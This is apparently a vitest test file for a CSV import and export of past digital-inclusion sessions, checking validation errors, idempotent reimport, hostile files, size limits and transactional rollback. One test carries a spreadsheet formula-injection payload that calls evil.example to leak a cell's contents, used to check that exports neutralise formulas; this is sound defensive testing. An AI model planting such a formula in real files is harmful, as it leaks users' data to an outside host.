import { randomBytes } from 'node:crypto';
import { expect, it } from 'vitest';
import { describeEachDb } from '@passerelle/db/testing';
import type { Db } from '@passerelle/db';
import { organisation, person, placeFields } from '../test-support.ts';
import { ACTIVITY_IMPORT_MAX_BYTES, ACTIVITY_IMPORT_MAX_ROWS, activitiesCsv, activityTemplateCsv, importActivities } from './activity-import.ts';

const enc = new TextEncoder();
const HEADER = ['id', 'date', 'place', 'session_type', 'duration_minutes', 'location', 'topics', 'woman_65_74', 'man_75plus', 'referrals', 'note'];
const csv = (rows: string[][], delimiter = ',', header = HEADER) => [header, ...rows].map((r) => r.join(delimiter)).join('\r\n');
const bytes = (text: string) => enc.encode(text);

async function setUp(db: Db) {
  const org = await organisation(db);
  const ana = await person(db, { displayName: 'Ana Import', memberships: [{ organisationId: org.id, role: 'member' }] });
  const { id: placeId } = await ana.caller.place.create({ organisationId: org.id, place: placeFields('EPN Midi') });
  const run = (text: string | Uint8Array | AsyncIterable<Uint8Array>, dryRun = false, onProgress?: (done: number, total?: number) => void) =>
    importActivities({ db, actor: ana.actor, organisationId: org.id, upload: typeof text === 'string' ? bytes(text) : text, dryRun, ...(onProgress ? { onProgress } : {}) });
  return { org, ana, placeId, run };
}

async function text(gen: AsyncGenerator<string>) {
  let out = '';
  for await (const s of gen) out += s;
  return out;
}

describeEachDb('epn-survey: importing past sessions from CSV', ({ getDb }) => {
  it('checks first and stores nothing, then imports all rows; importing the same file again adds nothing', async () => {
    const db = getDb();
    const { org, ana, placeId, run } = await setUp(db);
    // Semicolons, a BOM, Belgian dates, the EPN by name or id, codes in any case, two identical sessions.
    const file = `\uFEFF${csv(
      [
        ['s-1', '2025-11-03', 'epn midi', 'individual', '45', 'epn', 'email|online_admin', '1', '', '', 'Première visite'],
        ['', '4/11/2025', placeId, 'GROUP', '120', 'epn', 'safety', '4', '2', 'social_services', ''],
        ['', '5/11/2025', '', 'individual', '30', 'home', '', '1', '', '', ''],
        ['', '5/11/2025', '', 'individual', '30', 'home', '', '1', '', '', ''],
        ['', '', '', '', '', '', '', '', '', '', '']
      ],
      ';'
    )}`;
    const check = await run(file, true);
    expect(check).toMatchObject({ rows: 4, errors: [], errorCount: 0, created: 4, updated: 0, unchanged: 0, stored: false });
    expect(await db.epnActivity.count({ where: { organisationId: org.id } })).toBe(0);

    const progress: [number, number | undefined][] = [];
    const done = await run(file, false, (d, t) => progress.push([d, t]));
    expect(done).toMatchObject({ created: 4, stored: true });
    expect(progress.at(-1)).toEqual([4, 4]);
    const stored = await db.epnActivity.findMany({ where: { organisationId: org.id }, orderBy: [{ date: 'asc' }, { id: 'asc' }] });
    expect(stored.map((r) => [r.date.toISOString().slice(0, 10), r.placeId, r.sessionType, r.attendeeCount, r.source, r.createdById])).toEqual([
      ['2025-11-03', placeId, 'individual', 1, 'import', ana.actor.id],
      ['2025-11-04', placeId, 'group', 6, 'import', ana.actor.id],
      ['2025-11-05', null, 'individual', 1, 'import', ana.actor.id],
      ['2025-11-05', null, 'individual', 1, 'import', ana.actor.id]
    ]);
    expect(stored[0]!.topics).toEqual(['email', 'online_admin']);
    expect(stored[1]!.referrals).toEqual(['social_services']);
    expect(await db.auditLog.count({ where: { action: 'epn-survey.activity.import', targetId: org.id } })).toBe(1);

    const again = await run(file);
    expect(again).toMatchObject({ created: 0, updated: 0, unchanged: 4, stored: true });
    expect(await db.epnActivity.count({ where: { organisationId: org.id } })).toBe(4);

    // The row with an id was corrected in the spreadsheet: it is updated, the others stay.
    const corrected = file.replace('s-1;2025-11-03;epn midi;individual;45', 's-1;2025-11-03;epn midi;individual;60');
    expect(await run(corrected)).toMatchObject({ created: 0, updated: 1, unchanged: 3 });
    const s1 = await db.epnActivity.findFirstOrThrow({ where: { organisationId: org.id, date: new Date('2025-11-03T00:00:00Z') } });
    expect([s1.durationMinutes, s1.createdById, s1.updatedById]).toEqual([60, ana.actor.id, ana.actor.id]);
  });

  it('the export has the same columns: a file exported, corrected and imported back updates its records', async () => {
    const db = getDb();
    const { org, ana, placeId, run } = await setUp(db);
    await ana.caller.activity.record({ organisationId: org.id, activity: { placeId, date: '2026-01-12', sessionType: 'group', durationMinutes: 90, location: 'epn', topics: ['smartphone'], attendees: { '65-74': { woman: 3 }, '75+': { man: 1 } } } });
    await ana.caller.activity.record({ organisationId: org.id, activity: { placeId: null, date: '2026-01-13', sessionType: 'individual', durationMinutes: 30, location: 'remote', attendees: { '16-24': { other: 1 } } } });
    const exported = await text(activitiesCsv({ db, actor: ana.actor, organisationId: org.id }));
    expect(exported.startsWith('\uFEFFid,date,place,session_type,duration_minutes,location,topics,woman_16_24,')).toBe(true);
    expect(exported).toContain(',2026-01-12,EPN Midi,group,90,epn,smartphone,');
    expect(await run(exported)).toMatchObject({ rows: 2, created: 0, updated: 0, unchanged: 2 });
    expect(await run(exported.replace(',2026-01-13,,individual,30,remote,', ',2026-01-13,,individual,40,remote,'))).toMatchObject({ created: 0, updated: 1, unchanged: 1 });
    expect(await db.epnActivity.count({ where: { organisationId: org.id } })).toBe(2);
    expect((await db.epnActivity.findFirstOrThrow({ where: { organisationId: org.id, location: 'remote' } })).durationMinutes).toBe(40);
    // The template reads without error once its example row is filled in with the organisation's EPN.
    expect(await run(activityTemplateCsv('EPN Midi'), true)).toMatchObject({ errors: [], created: 1 });
  });

  it('the report names each wrong cell by row and column; nothing is stored', async () => {
    const db = getDb();
    const { org, run } = await setUp(db);
    const other = await organisation(db, 'Other');
    const { id: otherPlace } = await db.epnPlace.create({ data: { ...placeFields('EPN Other'), organisationId: other.id }, select: { id: true } });
    const file = csv([
      ['a', '2025-02-30', '', 'individual', '45', 'epn', '', '1', '', '', ''], // row 2: no such day
      ['b', '2025-03-01', 'EPN Nowhere', 'solo', '45', 'moon', 'email|cooking', 'two', '', '', ''], // row 3
      ['c', '2025-03-02', otherPlace, 'individual', '45', 'epn', '', '', '', '', ''], // row 4: another organisation's EPN, nobody
      ['d', '2025-03-03', '', 'individual', '45', 'epn', '', '3', '2', '', '"multi\nline note"'], // row 5: one-to-one with 5 people
      ['a', '2025-03-04', '', 'group', '800', 'epn', '', '3', '', '', ''] // row 6 (7th line): too long, and id "a" again
    ]);
    const report = await run(file, true);
    expect(report.errors.map((e) => [e.row, e.column, e.messageKey])).toEqual([
      [2, 'date', 'epn_survey_error_date'],
      [3, 'place', 'epn_survey_error_import_place'],
      [3, 'session_type', 'epn_survey_error_session_type'],
      [3, 'location', 'epn_survey_error_location'],
      [3, 'topics', 'epn_survey_error_unknown_code'],
      [3, 'woman_65_74', 'epn_survey_error_count'],
      [4, 'place', 'epn_survey_error_import_place'],
      [5, 'attendees', 'epn_survey_error_individual_attendees'],
      [6, 'duration_minutes', 'epn_survey_error_duration'],
      [6, 'id', 'epn_survey_error_import_duplicate_id']
    ]);
    expect(report.stored).toBe(false);
    expect(await run(file)).toMatchObject({ stored: false, errorCount: 10 });
    expect(await db.epnActivity.count({ where: { organisationId: org.id } })).toBe(0);

    // Columns: unknown, missing, or none for the people present.
    const header = await run(csv([['2025-03-01', 'individual']], ',', ['date', 'sesion_type']), true);
    expect(header.errors.map((e) => [e.row, e.column, e.messageKey])).toEqual([
      [1, 'sesion_type', 'epn_survey_error_csv_unknown_column'],
      [1, 'session_type', 'epn_survey_error_csv_missing_column'],
      [1, 'duration_minutes', 'epn_survey_error_csv_missing_column'],
      [1, 'location', 'epn_survey_error_csv_missing_column'],
      [1, 'attendees', 'epn_survey_error_csv_missing_column']
    ]);
    expect((await run('', true)).errors.map((e) => e.messageKey)).toEqual(['epn_survey_error_import_empty']);
    expect((await run(csv([]), true)).errors.map((e) => e.messageKey)).toEqual(['epn_survey_error_import_empty']);
  });

  it('hostile files: broken quotes, binary garbage, a huge stream, too many rows; none is stored and the huge one is not read to its end', async () => {
    const db = getDb();
    const { org, run } = await setUp(db);
    const good = ['', '2025-03-01', '', 'individual', '45', 'epn', '', '1', '', '', ''];
    const brokenQuotes = `${csv([good, good])}\r\n,2025-03-02,,individual,45,epn,,1,,,"never closed\r\n${csv([good]).split('\r\n')[1]}`;
    expect((await run(brokenQuotes, true)).errors.map((e) => [e.row, e.messageKey])).toEqual([[4, 'epn_survey_error_csv_malformed']]);
    const strayQuote = csv([['', '2025-03-01', '', 'individual', '45', 'epn', 'a"b"c', '1', '', '', '']]);
    expect((await run(strayQuote, true)).errors.map((e) => [e.row, e.messageKey])).toEqual([[2, 'epn_survey_error_csv_malformed']]);
    // Random bytes (invalid UTF-8), and a Latin-1 file (Excel's old "CSV" on Windows).
    const garbage = Uint8Array.from(randomBytes(4096), (b, i) => (i % 7 === 0 ? 0xff : b));
    expect((await run(garbage, true)).errors.map((e) => e.messageKey)).toEqual(['epn_survey_error_not_utf8']);
    const latin1 = Uint8Array.from(Buffer.from(csv([[...good.slice(0, 10), 'Première']]), 'latin1'));
    expect((await run(latin1, true)).errors.map((e) => e.messageKey)).toEqual(['epn_survey_error_not_utf8']);
    expect((await run(Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]), true)).errors.map((e) => e.messageKey)).toEqual(['epn_survey_error_not_utf8']);
    expect((await run('just some text without columns\nand another line', true)).errors.map((e) => e.messageKey)).toEqual(['epn_survey_error_csv_delimiter']);

    // 200 MB offered in 64 kB chunks: refused after the limit, without pulling the rest.
    let pulled = 0;
    async function* huge() {
      yield bytes(`${csv([])}\r\n`);
      // Rows of about 500 bytes (a long note), whole rows per chunk: the size limit comes before the row limit.
      const row = bytes(`${csv([[...good.slice(0, 10), 'n'.repeat(450)]]).split('\r\n')[1]}\r\n`);
      const chunk = Buffer.concat(Array.from({ length: Math.floor((64 * 1024) / row.length) }, () => row));
      for (let i = 0; i < 3200; i++) {
        pulled += chunk.length;
        yield chunk;
      }
    }
    const tooBig = await run(huge());
    expect(tooBig.errors.map((e) => e.messageKey)).toEqual(['epn_survey_error_activity_import_too_big']);
    expect(pulled).toBeLessThanOrEqual(ACTIVITY_IMPORT_MAX_BYTES + 64 * 1024);

    const manyRows = csv(Array.from({ length: ACTIVITY_IMPORT_MAX_ROWS + 1 }, () => good));
    expect(bytes(manyRows).length).toBeLessThan(ACTIVITY_IMPORT_MAX_BYTES);
    expect((await run(manyRows)).errors.map((e) => e.messageKey)).toEqual(['epn_survey_error_activity_import_too_big']);
    expect(await db.epnActivity.count({ where: { organisationId: org.id } })).toBe(0);
  });

  it('a formula in a cell is stored as text and exported with a leading apostrophe; importing the export changes nothing', async () => {
    const db = getDb();
    const { org, ana, run } = await setUp(db);
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const file = csv([['f-1', '2025-05-05', '', 'individual', '30', 'epn', '', '1', '', '', `"${formula.replaceAll('"', '""')}"`]]);
    expect(await run(file)).toMatchObject({ created: 1, stored: true });
    const row = await db.epnActivity.findFirstOrThrow({ where: { organisationId: org.id } });
    expect(row.note).toBe(formula);
    const exported = await text(activitiesCsv({ db, actor: ana.actor, organisationId: org.id }));
    expect(exported).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    expect(exported).not.toMatch(/,=HYPERLINK|,"=HYPERLINK/);
    expect(await run(exported)).toMatchObject({ created: 0, updated: 0, unchanged: 1 });
    expect((await db.epnActivity.findFirstOrThrow({ where: { organisationId: org.id } })).note).toBe(formula);
  });

  it('all or nothing: when the database refuses one write, the rows already written are rolled back', async () => {
    const db = getDb();
    const { org, run, ana } = await setUp(db);
    await run(csv([['u-1', '2025-06-01', '', 'individual', '30', 'epn', '', '1', '', '', '']]));
    const file = csv([
      ['u-1', '2025-06-01', '', 'individual', '45', 'epn', '', '1', '', '', ''],
      ['n-1', '2025-06-02', '', 'individual', '30', 'epn', '', '1', '', '', ''],
      ['n-2', '2025-06-03', '', 'individual', '30', 'epn', '', '1', '', '', '']
    ]);
    // The same database, but the corrections inside the import's transaction fail.
    const failing = new Proxy(db, {
      get(target, prop, receiver) {
        if (prop !== '$transaction') return Reflect.get(target, prop, receiver);
        return (fn: (tx: Db) => Promise<unknown>, options: unknown) =>
          target.$transaction(
            (tx) =>
              fn(
                new Proxy(tx, {
                  get(t, p, r) {
                    // The new rows are written first; the corrections (one statement) then fail.
                    if (p === '$executeRawUnsafe') return () => Promise.reject(new Error('disk full'));
                    return Reflect.get(t, p, r);
                  }
                }) as Db
              ),
            options as never
          );
      }
    });
    await expect(importActivities({ db: failing, actor: ana.actor, organisationId: org.id, upload: bytes(file), dryRun: false })).rejects.toThrow('disk full');
    const rows = await db.epnActivity.findMany({ where: { organisationId: org.id } });
    expect(rows.map((r) => r.durationMinutes)).toEqual([30]);
    expect(await db.auditLog.count({ where: { action: 'epn-survey.activity.import', targetId: org.id } })).toBe(1);
  });
});
